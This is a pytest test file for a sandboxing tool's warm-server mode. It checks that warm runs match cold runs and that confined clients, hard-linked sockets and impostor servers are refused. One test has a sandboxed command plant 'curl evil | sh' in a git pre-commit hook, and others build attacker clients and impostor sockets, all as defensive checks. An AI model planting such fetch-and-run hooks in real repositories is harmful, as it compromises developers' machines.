"""The warm server (`corral warm`, issue 11): a run through it is the run a cold
`corral` makes, and nothing but this user's equally confined processes can use it
or impersonate it."""

import array
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time

import pytest
from hypothesis import given, strategies as st

from corral.warm import client as wire

pytestmark = pytest.mark.namespaces
PY = sys.executable
SHOW = ("echo out; echo err >&2; pwd; umask; echo \"$WARM_PROBE\"; ulimit -n; nice; "
        "ls /proc/self/fd | tr '\\n' ' '; echo; exit 7")


def corral(env, *args, **kw):
    kw.setdefault("capture_output", True)
    kw.setdefault("text", True)
    kw.setdefault("timeout", 60)
    kw.setdefault("stdin", subprocess.DEVNULL)
    return subprocess.run([PY, "-m", "corral", *args], env=env, **kw)


def server_pid(env):
    proc = corral(env, "warm", "status")
    assert proc.returncode == 0, proc.stderr
    return int(proc.stderr.split("pid ", 1)[1].split(",", 1)[0])


def ancestors(pid):
    found = []
    while pid > 1:
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        found.append(pid)
    return found


def sandboxed_sleep(env, marker, stop_all, *options, net="none", stdin=subprocess.DEVNULL):
    """Start a sandbox that sleeps; the host pid of its sleep once it runs."""
    proc = subprocess.Popen([PY, "-m", "corral", "run", "--net", net, *options, "--", "sh",
                             "-c", "exec sh -c 'echo ready; sleep 300; :' %s" % marker],
                            env=env, stdin=stdin, stdout=subprocess.PIPE, text=True)
    stop_all.append(proc)
    assert proc.stdout.readline() == "ready\n"
    found = subprocess.run(["pgrep", "-f", "^sh -c echo ready; sleep 300; : %s$" % marker],
                           capture_output=True, text=True)
    pids = [int(p) for p in found.stdout.split()]
    assert len(pids) == 1, found
    return proc, pids[0]


@pytest.fixture
def warm(tmp_path):
    xdg = tmp_path / "xdg"
    xdg.mkdir(mode=0o700)
    (tmp_path / "tmp").mkdir()  # the scratch root: corral-<uid> in it
    env = dict(os.environ, XDG_RUNTIME_DIR=str(xdg), TMPDIR=str(tmp_path / "tmp"),
               WARM_PROBE="probe-value")
    proc = corral(env, "warm", "start", "--idle", "300")
    assert proc.returncode == 0, proc.stderr
    pid = int(proc.stderr.split("pid ", 1)[1].split(",", 1)[0])
    yield env
    corral(env, "warm", "stop")
    try:
        os.kill(pid, signal.SIGKILL)
    except ProcessLookupError:
        pass


def test_a_warm_run_is_the_cold_run(warm, tmp_path):
    cold = corral({**warm, "CORRAL_WARM": "off"}, "run", "--net", "none", "--", "sh", "-c", SHOW,
                  cwd=tmp_path, preexec_fn=lambda: os.umask(0o027))
    hot = corral(warm, "run", "--net", "none", "--", "sh", "-c", SHOW, cwd=tmp_path,
                 preexec_fn=lambda: os.umask(0o027))
    assert (hot.returncode, hot.stdout, hot.stderr) == (cold.returncode, cold.stdout, cold.stderr)
    assert hot.returncode == 7
    lines = hot.stdout.splitlines()
    assert lines[:4] == ["out", str(tmp_path), "0027", "probe-value"]
    assert lines[-1].split() == ["0", "1", "2", "3"]  # stdio and ls's own listing: nothing else


def test_a_warm_run_gets_the_clients_limits_nice_and_extra_fds(warm, tmp_path):
    r, w = os.pipe()

    def setup():
        import resource

        os.umask(0o022)
        resource.setrlimit(resource.RLIMIT_NOFILE, (123, 456))
        os.nice(3)

    proc = corral(warm, "run", "--net", "none", "--json-status-fd", str(w), "--", "sh", "-c",
                  "ulimit -n; nice", cwd=tmp_path, pass_fds=(w,), preexec_fn=setup)
    os.close(w)
    with os.fdopen(r) as f:
        status = f.read()
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["123", "3"]
    assert '"exit-code": 0' in status  # written to the client's own fd, at its number


@pytest.mark.parametrize("net", ["none", "filtered"])
def test_runs_go_through_the_server_and_then_its_ready_spare(warm, tmp_path, stop_all, net):
    server = server_pid(warm)
    for n in range(3):  # a fresh worker, then the sandbox kept ready for a run like it
        proc, sleeper = sandboxed_sleep(warm, "warm-through-%d-%d" % (os.getpid(), n), stop_all,
                                        net=net)
        assert server in ancestors(sleeper) and proc.pid not in ancestors(sleeper)
        proc.kill()
        proc.wait()
    for n in range(3):  # and to their end, exit status and output included
        done = corral(warm, "run", "--net", net, "--", "sh", "-c", "echo ok-%d; exit 3" % n)
        assert (done.returncode, done.stdout, done.stderr) == (3, "ok-%d\n" % n, "")
    cold, sleeper = sandboxed_sleep({**warm, "CORRAL_WARM": "off"}, "warm-cold-%d" % os.getpid(),
                                    stop_all)
    assert cold.pid in ancestors(sleeper) and server not in ancestors(sleeper)


def test_a_terminal_on_stdin_starts_cold(warm, tmp_path, stop_all):
    import pty

    master, slave = pty.openpty()
    try:
        proc, sleeper = sandboxed_sleep(warm, "warm-tty-%d" % os.getpid(), stop_all, stdin=slave)
    finally:
        os.close(slave)
    assert proc.pid in ancestors(sleeper) and server_pid(warm) not in ancestors(sleeper)
    proc.kill()
    proc.wait()
    os.close(master)


def test_the_client_killed_takes_its_sandbox_with_it(warm, tmp_path, stop_all):
    marker = "warm-victim-%d" % os.getpid()
    proc, _ = sandboxed_sleep(warm, marker, stop_all)
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        found = subprocess.run(["pgrep", "-f", "^sh -c echo ready; sleep 300; : %s$" % marker],
                               capture_output=True)
        if found.returncode == 1:
            return
        time.sleep(0.05)
    raise AssertionError("the sandbox outlived its killed client")


def test_sigterm_to_the_client_reaches_the_command_as_in_a_cold_run(warm, tmp_path):
    script = "trap 'echo got-term; exit 9' TERM; echo ready; sleep 30 & wait"
    results = []
    for env in ({**warm, "CORRAL_WARM": "off"}, warm):
        proc = subprocess.Popen([PY, "-m", "corral", "run", "--net", "none", "--", "sh", "-c",
                                 script], env=env, stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, text=True)
        assert proc.stdout.readline() == "ready\n"
        proc.send_signal(signal.SIGTERM)
        out, _ = proc.communicate(timeout=30)
        results.append((proc.returncode, out))
    assert results[0] == results[1] == (9, "got-term\n")


def test_a_dead_server_means_a_cold_start(warm, tmp_path):
    status = corral(warm, "warm", "status").stderr
    pid = int(status.split("pid ", 1)[1].split(",", 1)[0])
    os.kill(pid, signal.SIGKILL)
    time.sleep(0.2)
    proc = corral(warm, "run", "--net", "none", "--", "sh", "-c", "echo fine")
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, "fine\n", "")
    assert corral(warm, "warm", "status").returncode == 1
    # the crashed server's socket is still there: a new server replaces it
    again = corral(warm, "warm", "start", "--idle", "300")
    assert again.returncode == 0, again.stderr
    assert server_pid(warm) != pid


RAW_CLIENT = textwrap.dedent("""
    import array, os, socket, sys
    from corral.warm import client as wire
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    sock.settimeout(10)
    sock.connect(sys.argv[1])
    # an attacker skips the client's own check of the server and asks straight away
    request = wire.encode_request("run", ["corral", "run", "--net", "host", "--", "true"],
                                  os.environb, b"/", [0, 1, 2])
    try:
        sock.sendmsg([request], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
    except BrokenPipeError:
        pass  # refused before it could send: the answer is waiting all the same
    msg, fds = wire.receive(sock, 4096, 1)
    print("ANSWER", msg.decode(errors="replace"))
""")


def _socket_of(env):
    path = wire.socket_path(env)
    assert path, "no warm socket"
    return path


def test_a_sandbox_cannot_be_given_the_servers_socket(warm, tmp_path):
    path = _socket_of(warm)
    proc = corral(warm, "run", "--net", "none", "--allow-socket", path, "--", "true")
    assert proc.returncode == 2
    assert "corral's own state" in proc.stderr


def test_a_sandboxed_process_reaching_the_socket_by_a_hard_link_is_refused(warm, tmp_path):
    alias = tmp_path / "alias.sock"
    os.link(_socket_of(warm), alias)  # the state dir is masked; this name is not
    proc = corral(warm, "run", "--net", "none", "--allow-socket", str(alias), "--", PY, "-c",
                  RAW_CLIENT, str(alias))
    assert "ANSWER" in proc.stdout, proc.stderr
    answer = proc.stdout.split("ANSWER", 1)[1]
    assert not answer.strip().startswith("ready")
    assert "confined differently" in answer


def test_a_no_new_privs_client_is_refused_by_the_server(warm, tmp_path):
    path = _socket_of(warm)
    proc = subprocess.run(["setpriv", "--no-new-privs", PY, "-c", RAW_CLIENT, path], env=warm,
                          capture_output=True, text=True, timeout=60)
    assert "ANSWER" in proc.stdout, proc.stderr
    assert "confined differently" in proc.stdout.split("ANSWER", 1)[1]


IMPOSTOR = textwrap.dedent("""
    import os, socket, sys
    path = sys.argv[1]
    try:
        os.unlink(path)
    except FileNotFoundError:
        pass
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    srv.bind(path)
    srv.listen(8)
    print("listening", flush=True)
    srv.settimeout(30)
    conn, _ = srv.accept()
    conn.settimeout(5)
    try:
        got = conn.recv(1 << 20)
    except OSError:
        got = b""
    print("GOT %d" % len(got), flush=True)
""")


def test_an_impostor_server_in_another_user_namespace_gets_nothing(warm, tmp_path, stop_all):
    path = _socket_of(warm)
    corral(warm, "warm", "stop")
    # same uid seen from outside (unshare -r maps it), but not confined as we are
    impostor = subprocess.Popen(["unshare", "-r", PY, "-c", IMPOSTOR, path], env=warm,
                                stdout=subprocess.PIPE, text=True)
    stop_all.append(impostor)
    assert impostor.stdout.readline() == "listening\n"
    secret_env = {**warm, "IMPOSTOR_BAIT": "s3cret"}
    proc = corral(secret_env, "run", "--net", "none", "--", "sh", "-c", "echo cold-ok")
    assert (proc.returncode, proc.stdout) == (0, "cold-ok\n"), proc.stderr
    out, _ = impostor.communicate(timeout=40)
    assert "GOT 0" in out  # connected, then left without sending a byte


@given(st.binary(max_size=300))
def test_decoding_hostile_requests_only_ever_refuses(data):
    try:
        wire.decode_request(data)
    except wire.Refused:
        pass


@given(st.lists(st.binary(max_size=12).filter(lambda b: b"\0" not in b), max_size=40))
def test_decoding_hostile_field_lists_only_ever_refuses(fields):
    try:
        wire.decode_request(b"\0".join([wire.PROTOCOL, *fields]))
    except wire.Refused:
        pass


def test_a_request_round_trips():
    data = wire.encode_request("run", ["corral", "run", "--", "echo", ""],
                               {b"A": b"1=2", b"B": b""}, b"/tmp", [0, 1, 2, 9])
    req = wire.decode_request(data)
    assert req["argv"] == [b"corral", b"run", b"--", b"echo", b""]
    assert req["env"] == {b"A": b"1=2", b"B": b""}
    assert req["fds"] == [0, 1, 2, 9]
    assert req["cwd"] == b"/tmp"


@pytest.mark.parametrize("net", ["none", "filtered"])
def test_every_event_is_written_when_a_warm_client_exits(warm, tmp_path, net):
    import json

    for n in range(2):  # a fresh worker, then a spare
        events = tmp_path / ("events-%d.jsonl" % n)
        proc = corral(warm, "run", "--net", net, "--events", str(events), "--", "sh", "-c",
                      "exit 4")
        assert proc.returncode == 4, proc.stderr
        kinds = [json.loads(line)["type"] for line in events.read_text().splitlines()]
        assert kinds[0] == "sandbox_start" and kinds[-1] == "sandbox_exit", kinds


def test_a_spare_planned_before_a_repository_appeared_does_not_serve_it(warm, tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    first = corral(warm, "run", "--net", "none", "--", "true", cwd=repo)
    assert first.returncode == 0, first.stderr  # a spare is planned now, without .git
    time.sleep(0.5)
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    attack = corral(warm, "run", "--net", "none", "--", "sh", "-c",
                    "echo 'curl evil | sh' > .git/hooks/pre-commit; echo pwned >> .git/config",
                    cwd=repo)
    assert attack.returncode == 0, attack.stderr
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "config").read_text() == "[core]\n"


def test_the_server_and_its_spares_leave_no_scratch_behind(warm, tmp_path):
    scratch_root = tmp_path / "tmp" / ("corral-%d" % os.getuid())
    for options in (["--net", "none"], ["--net", "none"], [], ["--net", "none"]):
        assert corral(warm, "run", *options, "--", "true").returncode == 0
    assert corral(warm, "warm", "status").returncode == 0  # served by the spare: it goes
    assert corral(warm, "run", "--", "true").returncode == 0  # and a new one is made
    assert corral(warm, "warm", "stop").returncode == 0
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        left = [n for n in os.listdir(scratch_root) if n.startswith("sb-")]
        if not left:
            return
        time.sleep(0.1)
    raise AssertionError("left behind: %s" % left)


def test_runs_that_alternate_their_options_all_go_warm(warm, tmp_path, stop_all):
    server = server_pid(warm)
    for n, net in enumerate(["none", "filtered", "none", "filtered"]):
        proc, sleeper = sandboxed_sleep(warm, "warm-alt-%d-%d" % (os.getpid(), n), stop_all,
                                        net=net)
        assert server in ancestors(sleeper) and proc.pid not in ancestors(sleeper)
        proc.kill()
        proc.wait()


def test_a_socket_not_ours_or_not_a_socket_is_never_connected(tmp_path, monkeypatch):
    state = tmp_path / "corral"
    state.mkdir()
    env = {"XDG_RUNTIME_DIR": str(tmp_path), "HOME": str(tmp_path)}
    planted = state / wire.socket_name()
    planted.write_text("")  # a plain file where the socket would be
    assert wire.socket_path(env) is None
    planted.unlink()
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    sock.bind(str(planted))
    try:
        assert wire.socket_path(env) == str(planted)
        uid = os.getuid()
        monkeypatch.setattr(os, "getuid", lambda: uid + 1)  # as if another user had bound it
        assert wire.socket_path(env) is None
    finally:
        sock.close()
